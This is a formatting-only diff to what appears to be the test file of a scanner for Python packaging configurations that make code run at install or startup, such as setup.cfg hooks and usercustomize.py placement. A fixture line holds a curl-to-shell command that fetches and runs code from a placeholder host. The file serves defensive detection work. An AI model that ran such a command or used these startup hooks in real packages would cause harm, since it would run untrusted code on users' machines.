@@ -132,11 +132,14 @@ TOLD = {
 IN_SETUP_CFG = {
     "an attribute": ("[metadata]\nversion = attr: tools.v.get\n", GET),
     "a command": ("[options]\ncmdclass =\n    egg_info = tools.v.One\n", COMMAND),
-    "an entry point": ("[options.entry_points]\ndistutils.commands =\n    build = tools.v:One\n", COMMAND),
+    "an entry point": (
+        "[options.entry_points]\ndistutils.commands =\n    build = tools.v:One\n",
+        COMMAND,
+    ),
     "a package of commands": ("[global]\ncommand_packages = tools\n", COMMAND),
     "a hook": ("[global]\nsetup_hooks = tools.v.get\n", GET),
     "a hook before a command": ("[build_py]\npre-hook.one = tools.v.get\n", GET),
-}  # fmt: skip
+}
 
 
 def moments(files: dict[str, str]) -> set[Reach]:
@@ -225,11 +228,19 @@ RUN_AT_START = "import os; os.system('curl http://a.example.invalid/x | sh')\n"
         ("pyproject.toml", f'{WHEEL}]\nsources = ["a"]', "a/usercustomize.py"),
         ("pyproject.toml", f'{WHEEL}]\npackages = ["a/usercustomize.py"]', "a/usercustomize.py"),
         ("pyproject.toml", f'{WHEEL}.shared-data]\n"a/b.py" = "etc/ipython/b.py"', "a/b.py"),
-        ("pyproject.toml", '[tool.setuptools]\npackage-dir = {"usercustomize" = "a"}', "a/__init__.py"),
+        (
+            "pyproject.toml",
+            '[tool.setuptools]\npackage-dir = {"usercustomize" = "a"}',
+            "a/__init__.py",
+        ),
         ("setup.cfg", "[options]\npackage_dir =\n    = a\n", "a/usercustomize.py"),
-        ("setup.cfg", f"{FILES}lib/python3/site-packages = a/usercustomize.py\n", "a/usercustomize.py"),
+        (
+            "setup.cfg",
+            f"{FILES}lib/python3/site-packages = a/usercustomize.py\n",
+            "a/usercustomize.py",
+        ),
     ],
-)  # fmt: skip
+)
 def test_files_that_become_start_up_files(manifest: str, told: str, path: str) -> None:
     text = system(HATCHLING, told) if manifest == "pyproject.toml" else told
     assert moments({manifest: text, path: RUN_AT_START}) == {Reach.START}
